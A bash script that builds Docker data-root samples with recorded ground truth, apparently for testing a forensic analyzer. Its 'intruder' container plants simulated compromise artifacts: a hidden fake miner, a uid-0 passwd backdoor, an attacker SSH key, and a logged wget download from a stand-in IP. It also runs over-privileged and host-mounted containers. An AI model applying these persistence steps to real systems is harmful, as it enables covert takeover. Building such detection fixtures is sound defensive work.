#!/usr/bin/env bash
# make_samples.sh — regenerate the committed real Docker data-root samples.
#
#   bash samples/make_samples.sh <overlay2|vfs> [OUTDIR]
#
# Starts a PRIVATE dockerd (own data-root/exec-root/socket, --iptables=false),
# builds the scenario described in samples/README.md, records ground truth
# through the Engine API and the CLI while the daemon is still running, tars
# the LIVE data-root (like a seized host), stops the daemon and cleans up.
# OUTDIR defaults to samples/<driver>/ and is replaced.
#
# Needs (Debian 12): docker.io (dockerd 20.10), busybox-static, zstd, python3.
# Must run as root. Nothing is pulled: the base image is a `docker import`
# of a busybox-static root made here.
set -euo pipefail

DRIVER=${1:?usage: make_samples.sh <overlay2|vfs> [outdir]}
case "$DRIVER" in overlay2|vfs) ;; *) echo "driver must be overlay2 or vfs" >&2; exit 2;; esac
HERE=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
OUT=${2:-$HERE/$DRIVER}
OUT=$(mkdir -p "$OUT" && cd "$OUT" && pwd)
FULL=0; [ "$DRIVER" = overlay2 ] && FULL=1      # vfs gets a smaller subset

WORK=${SAMPLE_WORKDIR:-/tmp/docker-samples-$DRIVER}
SEIZED=$WORK/seized                  # tar runs here: archive top level is var/
DATAROOT=$SEIZED/var/lib/docker      # -> exercises the analyzer's prefix detection
EXECROOT=/run/docker-samples-$DRIVER # short: unix socket paths are limited to 108 bytes
SOCK=$EXECROOT/docker.sock
DOCKERD=/usr/sbin/dockerd
DOCKER_CLI=/usr/bin/docker           # Debian's client from docker.io, same version as the daemon
export DOCKER_HOST=unix://$SOCK
export DOCKER_CONFIG=$WORK/cli-config
unset DOCKER_CONTEXT DOCKER_TLS_VERIFY DOCKER_CERT_PATH

[ "$(id -u)" = 0 ] || { echo "must run as root" >&2; exit 1; }
for t in "$DOCKERD" "$DOCKER_CLI" busybox zstd python3 tar; do
  command -v "$t" >/dev/null || { echo "missing $t" >&2; exit 1; }
done
if findmnt -rn -o TARGET | grep -q "^$WORK/"; then
  echo "$WORK still has mounts from an earlier run; refusing" >&2; exit 1
fi

d() { "$DOCKER_CLI" "$@"; }
log() { printf '\n=== %s\n' "$*" >&2; }

DPID=
cleanup() {
  set +e
  if [ -n "$DPID" ] && kill -0 "$DPID" 2>/dev/null; then
    log "stopping dockerd (pid $DPID)"
    kill -TERM "$DPID"; wait "$DPID"
  fi
  # dockerd unmounts everything on shutdown; unmount anything left, deepest first
  findmnt -rn -o TARGET | grep -E "^($WORK|$EXECROOT)/" | sort -r | while read -r m; do
    umount -l "$m"
  done
  if [ "${KEEP_WORK:-0}" != 1 ]; then
    rm -rf --one-file-system "$WORK" "$EXECROOT" "$EXECROOT.pid"
  fi
}
trap cleanup EXIT

rm -rf --one-file-system "$WORK" "$EXECROOT"
mkdir -p "$WORK" "$DATAROOT" "$EXECROOT" "$DOCKER_CONFIG"
echo '{}' > "$WORK/daemon.json"     # do not pick up a host /etc/docker/daemon.json

# ---------------------------------------------------------------- daemon ----
log "starting dockerd ($DRIVER)"
"$DOCKERD" --config-file "$WORK/daemon.json" \
  --data-root "$DATAROOT" --exec-root "$EXECROOT" --pidfile "$EXECROOT.pid" \
  --host "unix://$SOCK" --iptables=false --storage-driver "$DRIVER" \
  --shutdown-timeout 3 >"$WORK/dockerd.log" 2>&1 &
DPID=$!
for _ in $(seq 1 60); do d version >/dev/null 2>&1 && break; sleep 1; done
d version >/dev/null || { tail -50 "$WORK/dockerd.log" >&2; exit 1; }
DVER=$(d version -f '{{.Server.Version}}')
log "dockerd $DVER up (pid $DPID)"

# ------------------------------------------------------------ base image ----
# Case: imported image (no parent, history "Imported from -"), two tags on one
# image ID (base:1.0 + base:latest). Deterministic tar => same diffID every run.
log "base image"
BR=$WORK/baseroot
mkdir -p "$BR"/{bin,etc,tmp,root,dev,proc,sys,var/log,home/app}
cp /usr/bin/busybox "$BR/bin/busybox"
for a in sh ash ls cat echo sleep wget nc mkdir rm cp mv ln chmod chown touch \
         head tail tr seq printf id env grep sed awk httpd ps kill date true \
         false test dd gzip find sha256sum uname hostname stat xargs wc tee vi; do
  ln -s busybox "$BR/bin/$a"
done
cat > "$BR/etc/passwd" <<'EOF'
root:x:0:0:root:/root:/bin/sh
app:x:1000:1000:app:/home/app:/bin/sh
nobody:x:65534:65534:nobody:/nonexistent:/bin/false
EOF
cat > "$BR/etc/group" <<'EOF'
root:x:0:
app:x:1000:
nogroup:x:65534:
EOF
chmod 1777 "$BR/tmp"; chmod 700 "$BR/root"; chown 1000:1000 "$BR/home/app"
tar -C "$BR" --sort=name --numeric-owner --owner=0 --group=0 \
    --mtime='2024-01-01 00:00:00Z' -cf "$WORK/base.tar" .
d import -m "busybox-static root for docker-root analyzer samples" \
  -c 'CMD ["/bin/sh"]' "$WORK/base.tar" base:1.0
d tag base:1.0 base:latest

mkdir -p "$OUT.tmp"; rm -rf "$OUT.tmp"; mkdir -p "$OUT.tmp/truth"
TRUTH=$OUT.tmp/truth

# ----------------------------------------------------- legacy build image ----
# Case: legacy builder (DOCKER_BUILDKIT=0): intermediate images + parent chain
# in imagedb/metadata, many layers exercising the layer-merge logic:
#   dup.txt byte-identical in two layers, secret.txt deleted later (whiteout),
#   /opt/d replaced wholesale (opaque dir), chmod-only change, hardlink,
#   symlink, ENV/LABEL/EXPOSE/VOLUME/WORKDIR/CMD in the config.
log "legacy build app:legacy"
C=$WORK/ctx-legacy; mkdir -p "$C/d/sub" "$C/www"
printf 'alpha file\n' > "$C/a.txt"
printf 'same bytes in two layers\n' > "$C/dup.txt"
printf 'AWS_SECRET_ACCESS_KEY=not-a-real-key-EXAMPLE\n' > "$C/secret.txt"
printf 'old 1\n' > "$C/d/old1"; printf 'old 2\n' > "$C/d/sub/old2"
printf '<h1>sample</h1>\n' > "$C/www/index.html"
cat > "$C/run.sh" <<'EOF'
#!/bin/sh
# web-1's log generator (json-file, max-size=1k, max-file=3 => rotation)
echo "web starting on :8080"
echo "warning: config missing, using defaults" >&2
i=1
while [ $i -le 30 ]; do echo "GET /index.html 200 req=$i"; i=$((i+1)); done
printf 'tab\tseparated\tvalues\n'
echo 'non-ASCII: grüße – 日本語 – ✓'
echo 'stderr non-ASCII: ошибка ✗' >&2
printf 'invalid utf-8: \377\376 end\n'
# one 20000-byte line: json-file stores it as partial records (16 KiB + rest)
head -c 20000 /dev/zero | tr '\0' 'x'; echo
echo "error: upstream timeout" >&2
echo "serving"
exec httpd -f -p 8080 -h /app/www
EOF
cat > "$C/Dockerfile" <<'EOF'
FROM base:1.0
LABEL org.example.case="legacy-build" maintainer="samples@example.invalid"
ENV APP_HOME=/app APP_MODE=production
COPY a.txt dup.txt /app/
COPY secret.txt /app/secret.txt
COPY d/ /opt/d/
RUN rm /app/secret.txt
RUN rm -rf /opt/d && mkdir /opt/d && echo new > /opt/d/f
RUN chmod 0600 /app/a.txt
COPY dup.txt /app/dup.txt
RUN echo linked > /app/h1 && ln /app/h1 /app/h2 && ln -s /app/a.txt /app/link-to-a
COPY run.sh /app/run.sh
COPY www/ /app/www/
EXPOSE 8080
VOLUME /var/cache/app
WORKDIR /app
CMD ["/bin/sh", "/app/run.sh"]
EOF
DOCKER_BUILDKIT=0 d build -t app:legacy "$C" 2>&1 | tee "$TRUTH/build-app-legacy.log"

# ---------------------------------------------------- buildkit build image ----
# Case: BuildKit-built image (no intermediate images, buildkit/ state dirs).
if [ $FULL = 1 ]; then
  log "buildkit build app:buildkit"
  C=$WORK/ctx-bk; mkdir -p "$C"
  printf 'hello from buildkit\n' > "$C/hello.txt"
  cat > "$C/Dockerfile" <<'EOF'
FROM base:1.0
RUN mkdir -p /srv && echo "built by buildkit" > /srv/info.txt && echo tmp > /srv/gone.txt
COPY hello.txt /srv/hello.txt
RUN rm /srv/gone.txt
ENV BUILT_WITH=buildkit
LABEL org.example.case="buildkit-build"
CMD ["/bin/cat", "/srv/hello.txt"]
EOF
  if ! DOCKER_BUILDKIT=1 d build --progress=plain -t app:buildkit "$C" \
        > "$TRUTH/build-app-buildkit.log" 2>&1; then
    echo "BUILDKIT FAILED (see truth/build-app-buildkit.log)" >&2
    echo "buildkit build failed" > "$TRUTH/BUILDKIT_FAILED"
  fi
fi

# ------------------------------------------------ dangling + committed -------
# Case: dangling image (<none>:<none>, tag moved to a newer build).
if [ $FULL = 1 ]; then
  log "dangling image"
  C=$WORK/ctx-tool; mkdir -p "$C"
  printf 'FROM base:1.0\nRUN echo v1 > /version.txt\nCMD ["cat","/version.txt"]\n' > "$C/Dockerfile"
  DOCKER_BUILDKIT=0 d build -t tool:dev "$C"
  printf 'FROM base:1.0\nRUN echo v2 > /version.txt\nCMD ["cat","/version.txt"]\n' > "$C/Dockerfile"
  DOCKER_BUILDKIT=0 d build -t tool:dev "$C"
fi

# -------------------------------------------------------------- volumes -----
# Case: named volume with content (data), orphan volume (no user), labelled
# volume, and a local volume with driver options (opts.json).
log "volumes"
d volume create data
if [ $FULL = 1 ]; then
  d volume create orphan
  d volume create --label case=labeled --label owner=samples labeled
  d volume create --driver local --opt type=tmpfs --opt device=tmpfs \
    --opt o=size=1m,uid=1000 tmpfs-opts
fi

# ----------------------------------------------------------- containers -----
log "containers"
# web-1: running, image CMD, json-file rotation (1k x 3), stdout+stderr,
# >16 KiB line (partial records), non-ASCII, tab, invalid UTF-8, port binding.
d run -d --name web-1 --log-opt max-size=1k --log-opt max-file=3 \
  -p 127.0.0.1:18080:8080 app:legacy

# exited-0 / exited-1: exit codes; exited-0 also gets committed (below).
d run --name exited-0 base:1.0 sh -c 'echo hello > /tmp/out.txt; echo bye; exit 0' || true
d run --name exited-1 base:1.0 sh -c 'echo "fatal: boom" >&2; exit 1' || true

# created-only: never started (no State.StartedAt, RW layer = init only).
d create --name created-only -e FOO=bar app:legacy

# vol-user: named volume "data" with files + the anonymous volume from the
# image's VOLUME /var/cache/app with a file in it.
d run -d --name vol-user -v data:/mnt/data app:legacy sh -c '
  echo payload > /mnt/data/file1.txt; mkdir -p /mnt/data/sub
  echo nested > /mnt/data/sub/file2.txt; echo anon > /var/cache/app/cached.txt
  echo "volumes written"; exec sleep 86400'

# intruder: running; the exec'd actions below are the "compromise" to find:
# dropped executable in a hidden dir, passwd backdoor line, authorized_keys,
# deleted /etc/group (whiteout in the RW layer), a download command in the
# container's own log (written to PID 1's stdout/stderr), a file in /dev/shm
# (default IpcMode "private" on 20.10: runc mounts that tmpfs inside the
# container's own mount namespace, so it is NOT in the data-root — the truth
# lists it in no file; the analyzer must not claim to see it).
d run -d --name intruder base:1.0 sh -c 'echo "intruder container up"; exec sleep 86400'
sleep 1
d exec intruder sh -c 'mkdir -p /tmp/.x && printf "#!/bin/sh\nwhile :; do :; done\n" > /tmp/.x/miner && chmod 755 /tmp/.x/miner'
d exec intruder sh -c 'echo "toor:x:0:0:root:/root:/bin/sh" >> /etc/passwd'
d exec intruder sh -c 'mkdir -p /root/.ssh && chmod 700 /root/.ssh && echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKE attacker@evil.example" > /root/.ssh/authorized_keys && chmod 600 /root/.ssh/authorized_keys'
d exec intruder rm /etc/group
d exec intruder sh -c 'echo "+ wget -q -O /tmp/.x/miner http://203.0.113.7/x86_64/miner" > /proc/1/fd/1; echo "wget: cannot connect to remote host (203.0.113.7): Network unreachable" > /proc/1/fd/2'
d exec intruder sh -c 'echo "stash" > /dev/shm/.cache-x && chmod 755 /dev/shm/.cache-x'

if [ $FULL = 1 ]; then
  # web-gz: json-file with compress=true => rotated *.log.1.gz / *.log.2.gz.
  d run --name web-gz --log-opt max-size=1k --log-opt max-file=3 \
    --log-opt compress=true base:1.0 sh -c '
    i=1; while [ $i -le 120 ]; do echo "gz line $i lorem ipsum dolor sit amet"; i=$((i+1)); done
    echo "gz done" >&2' || true

  # local-log: the "local" log driver (protobuf records in local-logs/container.log).
  d run --name local-log --log-driver local base:1.0 sh -c '
    echo "local out 1"; echo "local err 1" >&2; printf "local\ttab\n"
    echo "local non-ASCII: café"; echo "local err 2" >&2' || true

  # priv: --privileged cannot START on this VM (runc "unable to apply caps"),
  # so it is only created. allcaps is the running stand-in.
  d create --privileged --name priv base:1.0 sleep 86400
  d run -d --name allcaps --cap-add ALL --cap-drop SYS_RESOURCE --pid host \
    --security-opt seccomp=unconfined --restart always base:1.0 sleep 86400

  # hostmount: bind of the host root (ro) and of a docker socket.
  if [ -S /var/run/docker.sock ]; then SOCKSRC=/var/run/docker.sock; else SOCKSRC=$SOCK; fi
  d run -d --name hostmount -v /:/host:ro -v "$SOCKSRC":/var/run/docker.sock \
    base:1.0 sleep 86400

  # net-user: user-defined bridge network with aliases.
  d network create --label case=user-network backend
  d run -d --name net-user --network backend --network-alias api \
    --network-alias api.internal base:1.0 sleep 86400

  # paused: running, then frozen.
  d run -d --name paused base:1.0 sleep 86400
  d pause paused || echo "PAUSE FAILED" | tee "$TRUTH/PAUSE_FAILED" >&2

  # committed image (parent = base:1.0, Comment/Author set).
  d commit -a "samples <samples@example.invalid>" -m "snapshot of exited-0" \
    -c 'LABEL org.example.case=commit' exited-0 snap:exited-0
fi

sleep 3   # let json-file finish compressing rotations, web-1 reach httpd

# ---------------------------------------------------------- ground truth -----
# Recorded while the daemon runs, right before the tar.
log "recording ground truth"
python3 "$HERE/record_ground_truth.py" api --socket "$SOCK" --out "$TRUTH" \
  --data-root "$DATAROOT" --driver "$DRIVER"
d ps -a > "$TRUTH/docker-ps-a.txt"
d ps -a -s --no-trunc > "$TRUTH/docker-ps-a-s-no-trunc.txt"
d images -a > "$TRUTH/docker-images-a.txt"
d images -a --digests --no-trunc > "$TRUTH/docker-images-a-no-trunc.txt"
# top-level dangling images only (intermediates are <none> too, but not dangling)
d images -f dangling=true --no-trunc > "$TRUTH/docker-images-dangling.txt"
d system df -v > "$TRUTH/docker-system-df-v.txt"
for n in $(d ps -a --format '{{.Names}}'); do
  d diff "$n" > "$TRUTH/docker-diff-$n.txt" 2>&1 || true
  # byte-exact `docker logs`. Never-started containers (created-only, priv) are
  # skipped and get empty files: on 20.10 `docker logs` of a container that is
  # not running starts its log driver, which CREATES an empty <id>-json.log —
  # recording the truth would alter the evidence.
  if [ "$(d inspect -f '{{.State.StartedAt}}' "$n")" = 0001-01-01T00:00:00Z ]; then
    : > "$TRUTH/logs-$n.stdout"; : > "$TRUTH/logs-$n.stderr"
    : > "$TRUTH/logs-$n.ts.stdout"; : > "$TRUTH/logs-$n.ts.stderr"
    continue
  fi
  d logs "$n" > "$TRUTH/logs-$n.stdout" 2> "$TRUTH/logs-$n.stderr" || true
  d logs --timestamps "$n" > "$TRUTH/logs-$n.ts.stdout" 2> "$TRUTH/logs-$n.ts.stderr" || true
done

# -------------------------------------------------------------- snapshot -----
# Live tar of the data-root (daemon running, container rootfs mounted).
log "tarring live data-root"
TAR_CMD="tar --xattrs --xattrs-include='*' --numeric-owner -C $SEIZED -cf - var"
ZSTD_CMD="zstd -19 -T0 -q"
set +e
tar --xattrs --xattrs-include='*' --numeric-owner -C "$SEIZED" -cf - var \
  2> "$WORK/tar.stderr" | $ZSTD_CMD -o "$OUT.tmp/docker-root.tar.zst"
rcs=("${PIPESTATUS[@]}")
set -e
cat "$WORK/tar.stderr" >&2
if [ "${rcs[0]}" -gt 1 ] || [ "${rcs[1]}" -ne 0 ]; then
  echo "tar/zstd failed: ${rcs[*]}" >&2; exit 1
fi
python3 "$HERE/record_ground_truth.py" finalize --out "$TRUTH" \
  --archive "$OUT.tmp/docker-root.tar.zst" --tar-command "$TAR_CMD" \
  --compress-command "$ZSTD_CMD" --tar-exit-code "${rcs[0]}"
cp "$WORK/tar.stderr" "$TRUTH/tar.stderr"

# ------------------------------------------------------------ stop + swap -----
log "stopping dockerd"
kill -TERM "$DPID"; wait "$DPID" || true; DPID=
rm -rf "$OUT"; mv "$OUT.tmp" "$OUT"
log "done: $OUT"
ls -la "$OUT" >&2
